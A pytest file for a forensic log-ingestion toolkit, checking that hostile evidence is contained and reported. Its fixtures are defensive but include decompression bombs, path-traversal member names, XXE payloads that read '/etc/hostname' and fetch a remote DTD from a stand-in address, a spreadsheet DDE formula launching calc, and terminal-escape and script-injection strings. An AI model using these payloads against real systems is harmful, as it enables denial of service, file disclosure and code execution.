"""Evidence that means harm, or met with harm: each ends in a row of `problems` or a refused file,
and everything else is still read.

What archives unfold to, and which names they may bear, is tested in `test_collection` as well; here
it is what `kitlib.read_evidence` makes of it, beside a good log of host WS9.
"""

from __future__ import annotations

import ast
import gzip
import io
import json
import os
import random
import re
import struct
import sys
import tarfile
import unicodedata
import zipfile
import zlib
from html.parser import HTMLParser
from pathlib import Path
from typing import TYPE_CHECKING

import pandas as pd
import pytest

import kitlib as kit
from kitlib import cli, store
from kitlib import ingest as ingesting
from kitlib.archives import BROKEN, members
from kitlib.claims import Check, Finding, table_html
from kitlib.collection import Limits, listing, walk
from kitlib.evidence import assemble
from kitlib.findings import findings_document
from kitlib.inert import inert, inert_columns
from kitlib.readers.updates import column_maps
from kitlib.report import render
from kitlib.simulate.evtx import Event, encode_log, ticks

if TYPE_CHECKING:
    from kitlib.store import Evidence

EVIL = "\x1b[2J\x1b]0;gone\x07WS\u202e1000\u2066<script>alert(1)</script></script>\x9b31m"
FORMULAS = ("=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1")


def log(host: str = "WS9", *, user: str = "CORP\\a", count: int = 3, first: int = 1) -> bytes:
    events = [
        Event(
            provider="RasClient",
            event_id=20227,
            time=ticks(f"2022-01-12T10:{number:02d}:00.1234567Z"),
            data=["{2b7e}", user, "VPN", "789"],
        )
        for number in range(first, first + count)
    ]
    return encode_log(events, channel="Application", computer=host, first_record_id=first)


GOOD = log()


def put(folder: Path, files: dict[str, bytes]) -> Path:
    for path, content in files.items():
        file = folder / path
        file.parent.mkdir(parents=True, exist_ok=True)
        file.write_bytes(content)
    return folder


def read(tmp_path: Path, files: dict[str, bytes], *, limits: Limits | None = None) -> Evidence:
    """Read files beside a good log, and hold that the good log is read whole."""
    root = put(tmp_path / "e", {"good/good.evtx": GOOD, **files})
    units = ingesting.run(root, workers=1, limits=limits)
    evidence = assemble(units, name="e")
    assert (evidence.events["path"] == "good/good.evtx").sum() == 3
    return evidence


def reasons(evidence: Evidence, path: str) -> list[str]:
    problems = evidence.problems
    return problems.loc[problems["path"] == path, "reason"].tolist()


def zipped(members: dict[str, bytes]) -> bytes:
    raw = io.BytesIO()
    with zipfile.ZipFile(raw, "w", zipfile.ZIP_DEFLATED) as made:
        for name, content in members.items():
            made.writestr(zipfile.ZipInfo(name), content, zipfile.ZIP_DEFLATED)
    return raw.getvalue()


def tarred(*entries: tuple[tarfile.TarInfo, bytes], packed: bool = True) -> bytes:
    raw = io.BytesIO()
    with tarfile.open(fileobj=raw, mode="w:gz" if packed else "w") as made:
        for info, content in entries:
            info.size = len(content)
            made.addfile(info, io.BytesIO(content))
    return raw.getvalue()


# ------------------------------------------------------------------ archives that explode


def overlapping(copies: int, *, size: int) -> bytes:
    """Write a zip whose directory leads many names to one and the same member."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    data = packer.compress(bytes(size)) + packer.flush()
    crc, name = zlib.crc32(bytes(size)), b"a"
    head = struct.pack("<3H2H3I2H", 20, 0, 8, 0, 0, crc, len(data), size, len(name), 0)
    raw = b"PK\x03\x04" + head + name + data
    entry = (
        b"PK\x01\x02" + struct.pack("<H", 20) + head + struct.pack("<3H2I", 0, 0, 0, 0, 0) + name
    )
    end = struct.pack(
        "<4s4H2IH", b"PK\x05\x06", 0, 0, copies, copies, len(entry) * copies, len(raw), 0
    )
    return raw + entry * copies + end


def test_a_zip_that_leads_many_names_to_one_member_is_stopped(tmp_path):
    bomb = overlapping(2000, size=1 << 20)
    assert len(bomb) < 200_000
    limits = Limits(ratio=10, ratio_from=4 << 20)
    evidence = read(tmp_path, {"bomb.zip": bomb}, limits=limits)
    unfolded = evidence.files[evidence.files["path"].str.startswith("bomb.zip/")]
    assert unfolded["size_bytes"].sum() <= 4 << 20
    assert reasons(evidence, "bomb.zip")


@pytest.mark.parametrize("pack", [gzip.compress, lambda data: zipped({"in": data})])
def test_an_archive_in_an_archive_without_end_is_stopped(tmp_path, pack):
    content = GOOD
    for _ in range(30):
        content = pack(content)
    evidence = read(tmp_path, {"endless": content})
    assert evidence.problems["reason"].tolist() == ["archives nested too deep: not opened"]
    assert evidence.problems["records_lost"].isna().all()


@pytest.mark.parametrize(
    ("limits", "words"),
    [
        (Limits(ratio=10, ratio_from=1 << 20), "unfolds to more than 10 times its packed size"),
        (Limits(total_bytes=1 << 20), "unfold to more than 1048576 bytes"),
        (Limits(members=3), "more than 3 files: the rest was not read"),
    ],
)
@pytest.mark.parametrize("form", ["zip", "tar.gz", "gz"])
def test_a_bomb_is_stopped_with_a_sentence(tmp_path, limits, words, form):
    zeros = bytes(64 << 20)
    if form == "gz":
        bomb = gzip.compress(zeros)
    else:
        names = {f"f{n}": zeros[: 1 << (20 if n else 26)] for n in range(4)}
        infos = [(tarfile.TarInfo(name), data) for name, data in names.items()]
        bomb = zipped(names) if form == "zip" else tarred(*infos)
    if form == "gz" and limits.members == 3:
        pytest.skip("a .gz has one member")
    if limits.members == 3:
        bomb = zipped({f"f{n}": b"" for n in range(9)})
    evidence = read(tmp_path, {"bomb": bomb}, limits=limits)
    assert words in " ".join(reasons(evidence, "bomb"))
    assert evidence.files["size_bytes"].sum() < 8 << 20


def test_a_tar_with_endless_notes_in_front_of_a_member_takes_no_memory(tmp_path):
    note = tarfile.TarInfo("././@LongLink")
    note.type = tarfile.GNUTYPE_LONGNAME
    bomb = tarred((note, bytes(64 << 20)), (tarfile.TarInfo("x"), b"x"))
    assert len(bomb) < 1 << 20
    evidence = read(tmp_path, {"bomb.tar.gz": bomb})
    assert "bytes of headers" in reasons(evidence, "bomb.tar.gz")[0]


def test_a_thousand_members_of_one_name_cost_a_thousand_steps(tmp_path):
    def calls(number: int) -> int:
        raw = io.BytesIO()
        with tarfile.open(fileobj=raw, mode="w") as made:
            for _ in range(number):
                made.addfile(tarfile.TarInfo("x"))
        root = put(tmp_path / str(number), {"a.tar": raw.getvalue()})
        spool = tmp_path / f"spool{number}"
        spool.mkdir()
        return counted(lambda: list(walk(root, spool=spool)), lines=True)

    assert calls(400) < 2.5 * calls(200)


def test_no_broken_archive_ends_the_walk():
    dice = random.Random(7)  # noqa: S311  # the same damage every time
    seeds = [
        zipped({"a.evtx": GOOD, "b": b"b" * 999}),
        tarred((tarfile.TarInfo("a.evtx"), GOOD), (tarfile.TarInfo("b"), b"b")),
        tarred((tarfile.TarInfo("a.evtx"), GOOD), packed=False),
        gzip.compress(GOOD),
    ]
    kinds = ("zip", "tar.gz", "tar", "gz")
    for number in range(600):
        kind, seed = kinds[number % 4], bytearray(seeds[number % 4])
        ends = (dice.randrange(min(2000, len(seed))), len(seed) - 1 - dice.randrange(400))
        for _ in range(dice.randrange(1, 8)):
            seed[dice.choice(ends)] = dice.randrange(256)
        cut = seed[: dice.choice([len(seed), dice.randrange(len(seed))])]
        try:
            for member in members(io.BytesIO(cut), kind, name="x"):
                if hasattr(member, "blocks") and not member.refused:
                    for _ in member.blocks():
                        pass
        except BROKEN:
            continue


# ------------------------------------------------------------------ names


@pytest.mark.parametrize(
    "name",
    ["../x", "a/../../x", "/etc/x", "C:/x", "c:x", "..\\x", "\\\\server\\x", "\\x", "//x"],
)
@pytest.mark.parametrize("packed", [zipped, None])
def test_a_member_that_climbs_out_is_refused(tmp_path, name, packed):
    pack = packed or (lambda files: tarred(*[(tarfile.TarInfo(n), d) for n, d in files.items()]))
    evidence = read(tmp_path, {"a.bin": pack({name: log("WS1"), "in.evtx": log("WS2")})})
    refused = evidence.problems[evidence.problems["records_lost"].isna()]
    assert refused["reason"].tolist() == ["its name points outside the archive: not read"]
    assert set(evidence.events["host"]) == {"WS2", "WS9"}
    assert sorted(place.name for place in tmp_path.iterdir()) == ["e"]


@pytest.mark.parametrize(
    "name", ["CON", "nul.evtx", "LPT1", "aux.", "a<>|?*", " ", ".", "x" * 60_000]
)
def test_a_member_whose_name_windows_reserves_is_read_under_another(tmp_path, name):
    evidence = read(tmp_path, {"a.zip": zipped({name: log("WS1")})})
    assert set(evidence.events["host"]) == {"WS1", "WS9"}
    assert evidence.files["path"].str.len().max() < 1100


def test_names_that_are_no_text_are_shown_and_their_files_read(tmp_path):
    bad = tarfile.TarInfo(os.fsdecode(b"caf\xe9/a.evtx"))
    raw = bytearray(zipped({"caf__/b.evtx": log("WS2")}))
    for at in [found.start() for found in re.finditer(b"caf__", raw)]:
        raw[at + 3 : at + 5] = b"\xe9\xff"
    for mark, flags in ((b"PK\x03\x04", 7), (b"PK\x01\x02", 9)):
        raw[raw.index(mark) + flags] |= 8  # it claims to be UTF-8
    evidence = read(tmp_path, {"a.tar.gz": tarred((bad, log("WS1"))), "b.zip": bytes(raw)})
    assert set(evidence.events["host"]) == {"WS1", "WS2", "WS9"}
    assert "a.tar.gz/caf\\xe9/a.evtx" in set(evidence.files["path"])
    assert "b.zip/caf\\xe9\\xff/b.evtx" in set(evidence.files["path"])
    store.ingest(tmp_path / "e", tmp_path / "case")  # the case must be able to write them


def test_a_path_steers_no_terminal_and_breaks_no_line_of_the_manifest(tmp_path):
    evidence = read(tmp_path, {"a.zip": zipped({f"x\n{EVIL}.evtx": log("WS1")})})
    assert all(path.isprintable() for path in evidence.files["path"])
    assert set(evidence.events["host"]) == {"WS1", "WS9"}


def test_a_path_longer_than_the_system_opens_is_named(tmp_path):
    deep = tmp_path / "e" / "good"
    deep.mkdir(parents=True)
    here, names = os.open(deep, os.O_RDONLY), []
    try:
        for _ in range(20):
            names.append("d" * 250)
            os.mkdir(names[-1], dir_fd=here)
            below = os.open(names[-1], os.O_RDONLY, dir_fd=here)
            os.close(here)
            here = below
        evidence = read(tmp_path, {})
        (reason,) = evidence.problems["reason"].unique()
        assert reason == "it cannot be opened (File name too long)"
    finally:
        for name in reversed(names):
            above = os.open("..", os.O_RDONLY, dir_fd=here)
            os.rmdir(name, dir_fd=above)
            os.close(here)
            here = above
        os.close(here)


# ------------------------------------------------------------------ what is no plain file


def test_links_pipes_and_devices_are_named_and_not_followed(tmp_path):
    outside = put(tmp_path / "outside", {"secret.evtx": log("SECRET")})
    root = put(tmp_path / "e", {"a": b""})
    (root / "file").symlink_to(outside / "secret.evtx")
    (root / "folder").symlink_to(outside)
    (root / "loop").symlink_to(root)
    (root / "self").symlink_to(root / "self")
    (root / "dangling").symlink_to(root / "nowhere")
    if hasattr(os, "mkfifo"):
        os.mkfifo(root / "pipe")
    evidence = read(tmp_path, {})
    assert set(evidence.events["host"]) == {"WS9"}
    said = evidence.problems.set_index("path")["reason"].to_dict()
    links = ("file", "folder", "loop", "self", "dangling")
    assert {said[name] for name in links} == {"a link: not followed"}
    if hasattr(os, "mkfifo"):
        assert said["pipe"] == "neither a file nor a folder: not opened"


@pytest.mark.parametrize("swap", ["link", "pipe", "gone", "folder"])
def test_what_takes_a_files_place_after_listing_is_not_read(tmp_path, swap):
    put(tmp_path, {"outside.evtx": log("SECRET"), "e/a.evtx": log("WS1")})
    (item,) = listing(tmp_path / "e")
    item.file.unlink()
    if swap == "link":
        item.file.symlink_to(tmp_path / "outside.evtx")
    elif swap == "pipe":
        os.mkfifo(item.file)
    elif swap == "folder":
        item.file.mkdir()
    unit = ingesting.read_unit(item)
    assert (unit.kind, unit.parsed) == ("unread", None)
    assert unit.problems[0]["reason"].startswith("it cannot be opened (")
    assert ingesting.hash_unit(item).sha256 == ""


@pytest.mark.skipif(not hasattr(os, "geteuid") or os.geteuid() == 0, reason="root reads all")
def test_an_unreadable_folder_is_named(tmp_path):
    root = put(tmp_path / "e", {"shut/a.evtx": log("WS1")})
    (root / "shut").chmod(0)
    try:
        evidence = read(tmp_path, {})
    finally:
        (root / "shut").chmod(0o700)
    assert reasons(evidence, "shut") == ["it cannot be opened (Permission denied)"]


# ------------------------------------------------------------------ a file that changes


class Restless(io.FileIO):
    """A file that somebody writes to when the first block of it has been read."""

    def __init__(self, file: Path, change: str) -> None:
        super().__init__(file)
        self._file, self._change = file, change

    def read(self, size: int = -1) -> bytes:
        block = super().read(size)
        change, self._change = self._change, ""
        if change == "grows":
            with self._file.open("ab") as more:
                more.write(log("WS1", first=50))
        elif change == "shrinks":
            os.truncate(self._file, 68_000)
        elif change == "is rewritten":
            with self._file.open("r+b") as other:
                other.seek(66_000)
                other.write(b"\xff" * 100)
            os.utime(self._file, ns=(0, 0))
        return block


@pytest.mark.parametrize("change", ["grows", "shrinks", "is rewritten"])
def test_a_file_that_changes_while_it_is_read_says_so(tmp_path, change):
    put(tmp_path, {"a.evtx": log("WS1", count=40)})
    (item,) = listing(tmp_path / "a.evtx")
    assert item.size > 66_100
    unit = ingesting.Unit(path="a.evtx", host="", kind="unread", sha256="", size_bytes=0)
    with Restless(item.file, change) as stream:
        made = ingesting._read(unit, item, stream, (), column_maps.NO_MAPS)
    (problem,) = made.problems
    assert problem["reason"].startswith(f"it changed while it was read ({item.size} bytes before")
    assert problem["records_lost"] is None
    assert made.size_bytes == (68_000 if change == "shrinks" else item.size)
    assert made.parsed is not None  # what was hashed is what was parsed, whatever it is


def test_what_is_hashed_is_what_is_parsed(tmp_path):
    """The bytes are read once: a second reading could give others."""
    put(tmp_path / "e", {"a.evtx": log("WS1", count=30), "b.txt": b"?" * 200_000})
    opened: list[str] = []
    for item in listing(tmp_path / "e"):
        seen = counted_opens(lambda item=item: ingesting.read_unit(item))
        opened += [path for path in seen if path == str(item.file)]
    assert sorted(Path(path).name for path in opened) == ["a.evtx", "b.txt"]


def test_a_file_that_changes_between_listing_and_reading_says_so(tmp_path):
    put(tmp_path, {"a.evtx": log("WS1")})
    (item,) = listing(tmp_path / "a.evtx")
    put(tmp_path, {"a.evtx": log("WS1", count=5)})
    os.utime(item.file, ns=(0, 5))
    unit = ingesting.read_unit(item)
    assert unit.problems[0]["reason"].startswith("it changed after it was listed")
    assert len(unit.parsed.events) == 5


def test_a_file_that_keeps_still_has_nothing_said_of_it(tmp_path):
    evidence = read(tmp_path, {"a.zip": zipped({"x.evtx": log("WS1")}), "b.evtx": log("WS2")})
    assert evidence.problems.empty


# ------------------------------------------------------------------ XML

LAUGHS = "".join(
    f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' if n else '<!ENTITY l0 "ha">' for n in range(12)
)
DOCTYPE = (
    f'<!DOCTYPE x [{LAUGHS}<!ENTITY file SYSTEM "file:///etc/hostname">'
    '<!ENTITY % out SYSTEM "http://192.0.2.1/x.dtd">%out;]>'
)
EVENT = (
    "<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System>"
    "<Provider Name='P'/><EventID>1</EventID><TimeCreated SystemTime='2022-01-12T10:00:0{0}Z'/>"
    "<EventRecordID>{0}</EventRecordID><Channel>Application</Channel><Computer>WS1</Computer>"
    "</System><EventData><Data Name='a'>{1}</Data></EventData></Event>"
)
CLIXML = "<Objs Version='1.1.0.1' xmlns='http://schemas.microsoft.com/powershell/2004/04'>{}</Objs>"
HOTFIX_OBJECT = (
    '<Obj RefId="{0}"><MS><S N="HotFixID">KB501079{0}</S><S N="CSName">WS1</S>'
    '<S N="InstalledBy">{1}</S><DT N="InstalledOn">2022-01-1{0}T00:00:00</DT></MS></Obj>'
)
EVENT_OBJECT = (
    '<Obj RefId="{0}"><Props><I32 N="Id">{0}</I32><S N="ProviderName">P</S>'
    '<S N="LogName">Application</S><S N="MachineName">WS1</S><I64 N="RecordId">{0}</I64>'
    '<DT N="TimeCreated">2022-01-12T10:00:0{0}.1234567+01:00</DT><S N="Message">{1}</S>'
    "</Props></Obj>"
)
DTS = (
    '<Event><Timestamp data_type="4">01/12/2022 10:00:0{0}.123</Timestamp>'
    '<Computer-Name data_type="1">NPS1</Computer-Name><Packet-Type data_type="0">1</Packet-Type>'
    '<User-Name data_type="1">{1}</User-Name></Event>\n'
)


@pytest.mark.parametrize(
    ("text", "kind", "table"),
    [
        (
            f"<?xml version='1.0'?>{DOCTYPE}<Events>"
            + EVENT.format(1, "&l11;&file;")
            + EVENT.format(2, "b")
            + "</Events>",
            "event_xml",
            "events",
        ),
        (
            DOCTYPE
            + CLIXML.format(EVENT_OBJECT.format(1, "&l11;&file;") + EVENT_OBJECT.format(2, "b")),
            "get_winevent_clixml",
            "events",
        ),
        (
            DOCTYPE
            + CLIXML.format(HOTFIX_OBJECT.format(1, "&l11;&file;") + HOTFIX_OBJECT.format(2, "b")),
            "get_hotfix_clixml",
            "updates",
        ),
        (DTS.format(1, "&l11;&file;") + DTS.format(2, "b"), "nps_dts_xml", "sessions"),
        (DTS.format(1, "a") + DOCTYPE + "\n" + DTS.format(2, "&l11;"), "nps_dts_xml", "sessions"),
    ],
)
def test_entities_are_neither_unfolded_nor_fetched(tmp_path, text, kind, table):
    evidence = read(tmp_path, {"x/bomb.xml": text.encode()})
    assert evidence.files.set_index("path").loc["x/bomb.xml", "kind"] == kind
    made = getattr(evidence, table)
    made = made[made["path"] == "x/bomb.xml"]
    assert len(made) == 2
    words = made.to_json(date_format="iso")
    assert "hahaha" not in words
    assert len(words) < 5000
    hostname = Path("/etc/hostname")
    if hostname.is_file() and len(hostname.read_text().strip()) > 4:
        assert hostname.read_text().strip() not in words


def test_elements_nested_without_end_cost_their_event_only(tmp_path):
    deep = EVENT.format(1, "<a>" * 100_000 + "</a>" * 100_000)
    wide = EVENT.format(2, "x" * 2_000_000)
    evidence = read(tmp_path, {"x.xml": (deep + wide).encode()})
    assert (evidence.events["path"] == "x.xml").sum() == 1
    assert any("nested more than" in reason for reason in reasons(evidence, "x.xml"))


# ------------------------------------------------------------------ numbers and dates

BEYOND = ("0001-01-01T00:00:00Z", "9999-12-31T23:59:59Z", "30828-09-14T02:48:05Z", "-1", "x")


def ras_xml(*, time: str = "2022-01-12T10:00:05Z", record: str = "5", event_id: str = "1") -> str:
    made = EVENT.format(5, "a").replace("2022-01-12T10:00:05Z", time)
    made = made.replace("<EventRecordID>5<", f"<EventRecordID>{record}<")
    return made.replace("<EventID>1<", f"<EventID>{event_id}<")


def com(**changed: object) -> dict[str, object]:
    row = {"date_utc": "2022-01-12T03:15:41Z", "Title": "Update (KB5009543)", "Operation": 1}
    return row | {"ResultCode": 2, "hresult": "0x0", "update_id": "", "host": "WS1"} | changed


@pytest.mark.parametrize("time", BEYOND)
def test_a_time_out_of_range_leaves_its_row_and_all_others(tmp_path, time):
    files = {
        "a.xml": (EVENT.format(1, "a") + ras_xml(time=time)).encode(),
        "b.json": json.dumps([com(), com(Title="Update (KB5010793)", date_utc=time)]).encode(),
        "c.csv": (
            '"PSComputerName","HotFixID","InstalledOn"\r\n"WS1","KB5009543","1/13/2022"\r\n'
            f'"WS1","KB5010793","{time}"\r\n'
        ).encode(),
        "d.log": "".join(
            f"{when} vpn charon: 01[IKE] IKE_SA c[1] established between "
            "192.0.2.1[gw]...198.51.100.1[user]\n"
            for when in ("2022-01-12T10:00:00Z", time)
        ).encode(),
    }
    evidence = read(tmp_path, files)
    events = evidence.events[evidence.events["path"] == "a.xml"]
    assert events["time_created"].isna().tolist() == [False, True]
    counts = evidence.updates["path"].value_counts().to_dict()
    assert counts == {"b.json": 2, "c.csv": 2}
    assert len(evidence.sessions) >= 1
    assert set(files) <= set(evidence.problems["path"])
    assert not evidence.problems["reason"].str.contains("the reader failed").any()


@pytest.mark.parametrize(
    "number",
    ["-1", str(2**63), str(2**64 - 1), "1" * 5000, "0x7fffffffffffffff", "1e400", "nan", ""],
)
def test_a_number_out_of_range_leaves_its_row_and_all_others(tmp_path, number):
    files = {
        "a.xml": (EVENT.format(1, "a") + ras_xml(record=number, event_id=number)).encode(),
        "b.json": json.dumps(
            [com(), com(Title="Update (KB5010793)", Operation=number, ResultCode=number)]
        ).encode(),
    }
    evidence = read(tmp_path, files)
    assert (evidence.events["path"] == "a.xml").sum() == 2
    assert (evidence.updates["path"] == "b.json").sum() == 2
    assert not evidence.problems["reason"].str.contains("the reader failed").any()


def test_an_event_log_with_times_and_numbers_out_of_range_is_read(tmp_path):
    times = (0, 1, 2**63 - 1, 2**64 - 1, ticks("2022-01-12T10:01:00Z"))
    events = [Event(provider="P", event_id=1, time=time, data=["x"]) for time in times]
    odd = encode_log(events, channel="Application", computer="WS1", first_record_id=2**63 - 3)
    evidence = read(tmp_path, {"odd.evtx": odd})
    rows = evidence.events[evidence.events["path"] == "odd.evtx"]
    lost = evidence.problems.loc[evidence.problems["path"] == "odd.evtx", "records_lost"]
    assert len(rows) + lost.sum() == len(times)
    assert rows["time_created"].notna().sum() >= 1


def test_a_cell_too_long_to_read_costs_its_row_only(tmp_path):
    head = '"PSComputerName","HotFixID","InstalledOn","Description"\r\n'
    row = '"WS1","KB{}","1/13/2022","{}"\r\n'
    text = head + row.format(5009543, "x") + row.format(5009566, "A" * 300_000)
    text += row.format(5010793, "x")
    evidence = read(tmp_path, {"h.csv": text.encode()})
    assert sorted(evidence.updates["kb"]) == ["KB5009543", "KB5010793"]
    assert any("the row that begins in line 3" in reason for reason in reasons(evidence, "h.csv"))


@pytest.mark.parametrize("where", ["KB5009543\0", "\0", "x\0y"])
def test_nuls_in_a_csv_end_nothing(tmp_path, where):
    text = '"PSComputerName","HotFixID","InstalledOn"\r\n'
    text += f'"WS1","{where}","1/13/2022"\r\n"WS1","KB5010793","1/14/2022"\r\n'
    evidence = read(tmp_path, {"h.csv": text.encode()})
    assert "KB5010793" in set(evidence.updates["kb"])


# ------------------------------------------------------------------ what reaches people


def hostile(tmp_path: Path) -> Path:
    """Evidence in which every name that can be chosen by an attacker is a bad one."""
    rows = [com(Title=f"{text} {EVIL} (KB5009543)", host=EVIL) for text in FORMULAS]
    files = {
        "a.evtx": log(EVIL, user=EVIL),
        "b.evtx": log("WS1", user="=cmd|' /C calc'!A0"),
        "c.json": json.dumps(rows).encode(),
        f"d/{inert(EVIL).replace('/', '')}.bin": b"?",
    }
    return put(tmp_path / "e", files)


class Page(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.words: list[str] = []

    def handle_starttag(self, tag, attrs):  # noqa: ARG002  # the parser hands it over
        self.tags.append(tag)

    def handle_data(self, data):
        self.words.append(data)


def page(html: str) -> Page:
    read = Page()
    read.feed(html)
    return read


def unsafe(text: str) -> set[str]:
    """Characters that steer a terminal or turn the direction of reading."""
    return {c for c in text if unicodedata.category(c) in ("Cc", "Cf") and c not in "\n\t\r"}


def test_names_out_of_logs_steer_no_terminal(tmp_path, capfd):
    evidence, case = hostile(tmp_path), tmp_path / "case"
    for command in (
        ["analyze", str(evidence), "--out", str(case)],
        ["analyze", str(case), "--json", "--quiet"],
        ["ingest", str(evidence), "--out", str(case)],
        ["verify", str(case)],
    ):
        assert cli.main(command) in (0, 4)
    put(evidence, {"nothing\x1b[2J.evtx": b"?"})
    cli.main(["verify", str(case)])
    (tmp_path / "none").mkdir()
    put(tmp_path / "none", {f"x\x1b[2J{chr(0x202E)}": b"?"})
    assert cli.main(["analyze", str(tmp_path / "none"), "--out", str(tmp_path / "c2")]) == 3
    out, err = capfd.readouterr()
    assert unsafe(out) == set()
    assert unsafe(err) == set()
    assert "\\u001b[2J" in out


def test_names_out_of_logs_are_inert_in_tables_documents_and_the_report(tmp_path):
    case = kit.analyze(hostile(tmp_path), "kb5009543")
    document = findings_document(case)
    assert unsafe(json.dumps(document, ensure_ascii=False)) == set()
    shown = {name: table for name, table in case.tables.items() if name != "updates"}
    for name, table in shown.items():
        for column in table.columns[table.dtypes == "str"]:
            assert set().union(*map(unsafe, table[column])) == set(), (name, column)
        assert "script" not in page(table_html(table)).tags
        assert "script" not in page(table._repr_html_()).tags
    found = page(render(case, document, dpi=20))
    assert "script" not in found.tags
    assert unsafe("".join(found.words)) == set()


def test_tables_and_findings_show_text_and_nothing_else():
    table = pd.DataFrame({"user": [EVIL, *FORMULAS]}, dtype="str")
    made = Finding(EVIL, table, (EVIL,), (EVIL,), (Check(EVIL, None, EVIL, (EVIL,)),))
    for html in (made._repr_html_(), table_html(table), made.checks[0]._repr_html_()):
        found = page(html)
        assert "script" not in found.tags
        assert unsafe(html) == set()
    assert "=cmd|' /C calc'!A0" in "".join(page(table_html(table)).words)


PACKAGE = Path(kit.__file__).parent


def test_the_kit_writes_no_table_that_a_spreadsheet_would_run():
    """What is not written as CSV or a workbook needs no guard; whoever writes one must add it."""
    writers = {"to_csv", "to_excel", "to_clipboard", "DictWriter", "writer"}
    found = [
        f"{path.relative_to(PACKAGE)}:{node.lineno}"
        for path in sorted(PACKAGE.rglob("*.py"))
        if "simulate" not in path.parts  # writes evidence, as Windows does
        for node in ast.walk(ast.parse(path.read_text("utf-8")))
        if isinstance(node, ast.Attribute) and node.attr in writers
    ]
    notebooks = PACKAGE.parent / "notebooks"
    found += [
        str(path.name)
        for path in sorted(notebooks.glob("*.ipynb"))
        if re.search(r"\bto_(csv|excel|clipboard)\b", path.read_text("utf-8"))
    ]
    assert found == []


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("WS0001", "WS0001"),
        ("Prüfung\u00a0東京", "Prüfung\u00a0東京"),
        ("\x1b[31m", "\\u001b[31m"),
        ("a\u202eb", "a\\u202eb"),
        ("\u009b2J", "\\u009b2J"),
        ("\U000e0041", "\\udb40\\udc41"),
        ("a\nb\tc", "a\nb\tc"),
    ],
)
def test_inert_shows_what_is_unseen_and_leaves_the_rest(text, shown):
    assert inert(text) == shown
    assert json.loads(f'"{inert(text, keep="")}"') == text


def test_inert_columns_keeps_what_is_missing():
    table = pd.DataFrame({"a": pd.Series(["x\n", None], dtype="str"), "b": [1, 2]})
    assert inert_columns(table, ["a"])["a"].fillna("-").tolist() == ["x\\u000a", "-"]
    assert inert_columns(table.iloc[:0], ["a"]).empty


# ------------------------------------------------------------------ very many files


def counted(job, *, lines: bool = False) -> int:
    """Count the calls, or lines, of a job: work, which does not depend on the machine's load."""
    seen = 0

    def count(_frame, event, _arg):
        nonlocal seen
        seen += event in (("line",) if lines else ("call", "c_call"))
        return count

    before = sys.gettrace(), sys.getprofile()
    (sys.settrace if lines else sys.setprofile)(count)
    try:
        job()
    finally:
        sys.settrace(before[0])
        sys.setprofile(before[1])
    return seen


_OPENED: list[list[str]] = []


def _heard(event: str, arguments: tuple[object, ...]) -> None:
    if event == "open" and _OPENED:
        _OPENED[-1].append(str(arguments[0]))


def counted_opens(job) -> list[str]:
    """List the paths that a job opens, as Python's own audit tells them."""
    if not hasattr(counted_opens, "heard"):
        sys.addaudithook(_heard)
        counted_opens.heard = True
    _OPENED.append([])
    try:
        job()
    finally:
        seen = _OPENED.pop()
    return seen


def test_many_tiny_files_cost_as_much_as_they_are_many(tmp_path):
    def cost(number: int) -> int:
        files = {f"WS{n % 50}/{n}.txt": b"a note of nothing %d" % n for n in range(number)}
        root = put(tmp_path / str(number), {"good.evtx": GOOD, **files})
        return counted(lambda: assemble(ingesting.run(root, workers=1), name="e"))

    few, many = cost(200), cost(800)
    assert many < 4.4 * few
    # A hundred thousand of them: some hundred million calls, minutes, and no more.
    assert (many - few) / 600 < 3000


def test_many_tiny_logs_cost_as_much_as_they_are_many(tmp_path):
    def cost(number: int) -> int:
        files = {f"{n}/a.evtx": log(f"WS{n}", count=1) for n in range(number)}
        root = put(tmp_path / f"l{number}", files)
        return counted(lambda: assemble(ingesting.run(root, workers=1), name="e"))

    assert cost(80) < 4.4 * cost(20)
